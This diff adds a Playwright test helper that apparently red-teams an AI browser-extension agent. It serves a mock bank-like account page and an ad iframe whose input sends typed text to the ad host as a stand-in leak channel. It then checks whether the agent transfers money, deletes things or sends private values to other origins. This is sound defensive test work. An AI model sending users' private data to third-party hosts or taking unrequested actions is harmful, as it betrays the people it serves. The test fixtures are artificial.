@@ -1,0 +1,123 @@
+import type { Page, Route } from '@playwright/test';
+import type { Question } from '../../../src/model/run-event';
+import type { Abra } from '../../fixtures/abra';
+import { idOf as numberOf } from '../../fixtures/scripted';
+import type { ModelRequest, Reply, ScriptedModel } from '../../model/serve-model.mjs';
+import { CONTROLS, controlOf, ORIGIN, PAGE, PRIVATE, selectorOf } from './shop';
+import { type Attack, whyForbidden } from './world';
+
+/** Serves the shop, and every other host that there may be, inside the browser, and tells of each request that left the page. */
+export async function serveShop(tab: Page): Promise<{ asked: () => string[]; forget: () => void }> {
+  const requests: string[] = [];
+  await tab.context().route(
+    (url) => url.protocol.startsWith('http'),
+    async (route: Route) => {
+      const request = route.request();
+      // What the extension itself asks, as its model, has no frame.
+      const url = new URL(request.url());
+      const isDocument = request.isNavigationRequest();
+      requests.push(
+        `${isDocument && request.frame() === tab.mainFrame() ? 'open' : isDocument ? 'frame' : 'tell'} ${url.href} ${request.postData() ?? ''}`,
+      );
+      if (!isDocument) return route.fulfill({ body: 'ok' });
+      const body =
+        url.origin === ORIGIN
+          ? shopPage(url.searchParams.has('confirm'))
+          : url.hostname === 'ads.example.net'
+            ? AD
+            : '<title>Elsewhere</title>';
+      await route.fulfill({ contentType: 'text/html', body });
+    },
+  );
+  return { asked: () => requests, forget: () => void requests.splice(0) };
+}
+
+/** One attack on the real extension; answers what happened that nobody asked for. */
+export async function attackInBrowser(
+  { abra, tab, model, shop }: { abra: Abra; tab: Page; model: ScriptedModel; shop: Awaited<ReturnType<typeof serveShop>> },
+  one: Attack,
+): Promise<string[]> {
+  await tab.goto('about:blank');
+  await tab.goto(one.page ?? PAGE);
+  shop.forget();
+  const answers = [...one.answers];
+  model.script((request) => said(answers.shift(), request));
+  const answer = (question: Question) => one.person?.(question) ?? (question.kind === 'step' && one.play ? 'go' : CAREFUL[question.kind]);
+  const run = one.play
+    ? await play(abra, tab, one, answer)
+    : await abra.run(one.goal, { tab, planner: 'claude', usePlaybooks: false, learn: false, answer });
+  if (!run.finished) await abra.call('run.stop', { runId: run.id });
+  return shop.asked().flatMap((line) => {
+    const [kind, address = '', body = ''] = line.split(' ');
+    const url = new URL(address);
+    if (kind === 'open') return whyForbidden(address, url, one) ?? [];
+    if (url.pathname === '/did') return [`did ${url.search}`];
+    return kind === 'tell' && url.origin !== ORIGIN && PRIVATE.some((text) => `${url.href}${body}`.includes(encodeURIComponent(text)))
+      ? [`told ${url.href}`]
+      : [];
+  });
+}
+
+const CAREFUL: Record<Question['kind'], string> = { confirm: 'deny', budget: 'stop', person: 'stop', step: 'stop', file: 'stop' };
+
+async function play(abra: Abra, tab: Page, { memory, play: id }: Attack, answer: (question: Question) => string) {
+  const name = memory?.playbooks.find((playbook) => playbook.id === id)?.name ?? '';
+  await abra.import(JSON.stringify(memory));
+  return abra.play(name, { tab, planner: 'claude', answer });
+}
+
+/** What the model says, with the numbers that the page has in this look. */
+function said(answer: unknown, request: ModelRequest): Reply {
+  if (answer === undefined)
+    return {
+      json: {
+        thought: '',
+        isComplete: true,
+        sequenceName: '',
+        operations: [],
+        more: false,
+        section: '',
+        success: false,
+        summary: 'No.',
+        suggestions: [],
+        readFrom: [],
+      },
+    };
+  if (typeof answer === 'string') return { text: answer };
+  return {
+    text: JSON.stringify(answer, (key, value: unknown) => {
+      const control = /^(to)?elementId$/i.test(key) && typeof value === 'number' ? controlOf(value) : undefined;
+      return control ? (numberOf(request, `${control.role} "${control.name}`) ?? 9999) : value;
+    }),
+  };
+}
+
+const AD = `<!doctype html><title>Ad</title><label>Your message to the advertiser <input oninput="fetch('/told?' + encodeURIComponent(value))"></label><button>Close</button>`;
+
+function shopPage(confirms: boolean): string {
+  const control = ({ role, name, does, sends, frame, href, secret, tag }: (typeof CONTROLS)[number]): string => {
+    const id = selectorOf({ name }).slice(1);
+    const act = does ? `did('${does}')` : name === 'Save profile' && confirms ? "confirm('Are you sure?') && did('confirmed')" : '';
+    if (frame) return '';
+    if (role === 'link') return `<a href="${href}" id="${id}">${name}</a>`;
+    if (role === 'button' && tag === 'input') return `<label>${name} <input type="file" id="${id}" onchange="did('uploaded')"></label>`;
+    if (role === 'button') return `<button type="button" id="${id}" onclick="${act}">${name}</button>`;
+    if (role === 'combobox') return `<label>${name} <select id="${id}"><option>Italy</option><option>Norway</option></select></label>`;
+    if (role === 'checkbox' || role === 'slider')
+      return `<label>${name} <input type="${role === 'slider' ? 'range' : role}" id="${id}"></label>`;
+    const field = `<label>${name} <input type="${secret ? 'password' : role === 'searchbox' ? 'search' : 'text'}" id="${id}"></label>`;
+    return sends ? field.replace('<input', `<input onkeydown="event.key === 'Enter' && did('${sends}')"`) : field;
+  };
+  const [plain, transfer, asks] = [
+    CONTROLS.filter(({ block }) => !block),
+    CONTROLS.filter(({ block }) => block?.startsWith('form')),
+    CONTROLS.filter(({ block }) => block?.startsWith('dialog')),
+  ].map((some) => some.map(control).join('\n'));
+  return `<!doctype html><meta charset="utf-8"><title>Your account</title><main><h1>Your account</h1>
+<p>IBAN ${PRIVATE[0]}</p><p>Signed in as ${PRIVATE[1]}</p><p>Customer ${PRIVATE[2]}</p><p>${PRIVATE[3]}</p>
+${plain}
+<form aria-label="Transfer money" onsubmit="event.preventDefault(); did('sent')"><h2>Transfer money</h2>${transfer}</form>
+<section><h2>Delete this project?</h2>${asks}</section>
+<iframe title="Ad" src="https://ads.example.net/box" width="400" height="80"></iframe></main>
+<script>const did = (what) => fetch('/did?' + encodeURIComponent(what), { method: 'POST' });</script>`;
+}
